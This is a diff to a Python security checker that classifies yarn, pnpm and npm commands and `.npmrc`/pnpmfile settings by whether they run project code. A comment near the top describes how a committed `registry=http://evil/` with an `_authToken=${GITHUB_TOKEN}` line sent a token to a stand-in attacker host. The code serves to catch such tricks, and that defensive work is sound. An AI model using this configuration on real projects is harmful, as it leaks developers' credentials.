@@ -134,6 +134,7 @@ def _network(pattern: re.Pattern[str]) -> Callable[[str, str, Inside], str | Non
 
 # pnpm's hooks file, loaded before it reads the lockfile
 _PNPMFILE: Final = re.compile(r"(?m)^[ \t]*(?:global-)?pnpmfile[ \t]*=[^\n]*")
+_PNPMFILE_BYTES: Final = re.compile(rb"(?m)^[ \t]*(?:global-)?pnpmfile[ \t]*=[^\n]*")
 # `.npmrc` keys that name no program, registry, host, file or shell (review GK6: a
 # committed `registry=http://evil/` with `//evil/:_authToken=${GITHUB_TOKEN}` sent the token
 # out under an approved `npm view`); any other key, a section, a quoted or escaped key or
@@ -616,12 +617,17 @@ _CODE_VERBS: Final[dict[str, frozenset[str]]] = {
     "yarn": frozenset(
         {"", "run", "test", "start", "install", "add", "remove", "up", "upgrade", "exec",
          "node", "dlx", "rebuild", "pack", "publish", "link", "unplug", "workspace",
-         "import", "create"}
+         "import", "create",
+         # berry's dedupe installs again, running the install scripts (closing-36 AV3)
+         "dedupe"}
     ),
     "pnpm": frozenset(
         {"", "run", "test", "start", "install", "i", "add", "remove", "rm", "update", "up",
          "exec", "dlx", "create", "rebuild", "pack", "publish", "link", "import", "install-test",
-         "it"}
+         "it",
+         # they install again, running the project's install scripts, as npm's do (closing-36
+         # AV3: `pnpm prune` ran the project's `postinstall`)
+         "dedupe", "prune"}
     ),
     # npm's install, script and exec verbs, in their aliases (GK6)
     "npm": frozenset(
@@ -777,6 +783,35 @@ def user_files(
             entries = tuple(entry for entry in LAUNCHERS["yarn"] if entry.name == name)
             found.append((os.path.join(home, name), entries))
     return found
+
+
+def relative_pnpmfile(program: str, home: str, env: Mapping[str, str]) -> str | None:
+    """A hooks file pnpm is told of by a relative path: a `pnpmfile` variable's, or a
+    `pnpmfile=` line of a user-level `.npmrc` outside the workspace (the one inside is
+    judged as the project's). pnpm resolves it against the workspace root (its lockfile
+    folder), not the working folder: `npm_config_pnpmfile=hooks.cjs` in `packages/a` ran
+    the root's `hooks.cjs` (closing-36 AV4). Where that folder is is not worked out here: a
+    relative value asks, as does a value spelt with quotes or `${…}`."""
+    if program != "pnpm":
+        return None
+    for key, value in env.items():
+        if key.lower() in _PNPMFILE_ENV and value and _relative(home, value):
+            return f"{key}={value}"
+    for path, entries in user_files(program, home, env):
+        if _NPMRC not in entries or not os.path.isabs(path):
+            continue
+        data = read_regular(path, _MAX_BYTES + 1)
+        for match in _PNPMFILE_BYTES.finditer(b"" if data is None else data[:_MAX_BYTES]):
+            value = match.group(0).partition(b"=")[2].strip().decode("utf-8", "replace")
+            if _relative(home, value):
+                return f"{path}: {match.group(0).decode('utf-8', 'replace').strip()[:80]}"
+    return None
+
+
+def _relative(home: str, value: str) -> bool:
+    """Whether a path setting is not an absolute path, read as npm and pnpm read it (a
+    `~/` in front is the home); an empty one is no setting."""
+    return bool(value) and not _home_path(home, value).startswith("/")
 
 
 def user_entry(entry: LaunchFile, path: str) -> LaunchFile:
